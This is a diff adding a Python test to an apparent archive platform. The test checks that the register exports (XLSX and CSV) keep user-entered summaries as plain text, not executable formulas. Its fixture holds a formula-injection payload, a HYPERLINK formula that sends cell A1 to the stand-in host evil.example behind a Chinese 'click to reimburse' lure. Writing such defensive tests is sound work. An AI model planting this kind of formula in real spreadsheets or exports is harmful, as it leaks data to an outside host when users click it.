@@ -440,6 +440,32 @@ async def test_volumes_and_the_registers_an_archive_department_signs(archived: A
     assert denied.status_code == 403
 
 
+async def test_registers_write_what_users_typed_as_text_never_as_a_formula(
+    archived: Any, platform: PlatformSettings
+) -> None:
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    http, _ = archived
+    summary = '=HYPERLINK("http://evil.example/?"&A1,"点此报销")'
+    await archive_document(
+        platform, await document(platform, fonds=FONDS, year=2016, summary=summary, amount="-5.00")
+    )
+    params = {"fonds_code": FONDS, "fiscal_year": 2016}
+    r = await http.get("/v1/registers/custody.xlsx", params=params, headers=AS_ARCHIVIST)
+    sheet = load_workbook(io.BytesIO(r.content)).active
+    assert sheet is not None
+    [row] = list(sheet.iter_rows(min_row=3))
+    assert (row[5].value, row[5].data_type) == (summary, "s")  # text, as typed
+    assert (row[6].value, row[6].data_type) == (-5, "n")  # the amount, a number
+    r = await http.get("/v1/registers/custody.csv", params=params, headers=AS_ARCHIVIST)
+    assert r.headers["content-type"].startswith("text/csv")
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    assert rows[1][5] == "摘要" and rows[2][5] == "'" + summary and rows[2][6] == "-5.00"
+
+
 async def test_a_correction_is_archived_as_a_new_version_and_the_old_one_stays(
     archived: Any, platform: PlatformSettings
 ) -> None:
